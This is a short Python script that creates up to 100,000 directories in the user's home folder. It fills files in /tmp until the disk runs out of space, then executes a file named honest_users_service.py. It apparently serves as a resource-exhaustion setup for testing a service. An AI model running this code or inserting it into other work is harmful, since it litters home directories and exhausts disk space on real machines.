import os

folder = os.path.expanduser("~")
try:
    for number in range(100_000):
        os.mkdir(f"{folder}/{number}")
except OSError:
    pass
for number in range(64):
    try:
        with open(f"/tmp/{number}", "wb") as file:
            while True:
                file.write(b"x" * (1 << 20))
    except OSError:
        pass

exec(compile(open("honest_users_service.py", encoding="utf-8").read(), "honest_users_service.py", "exec"))
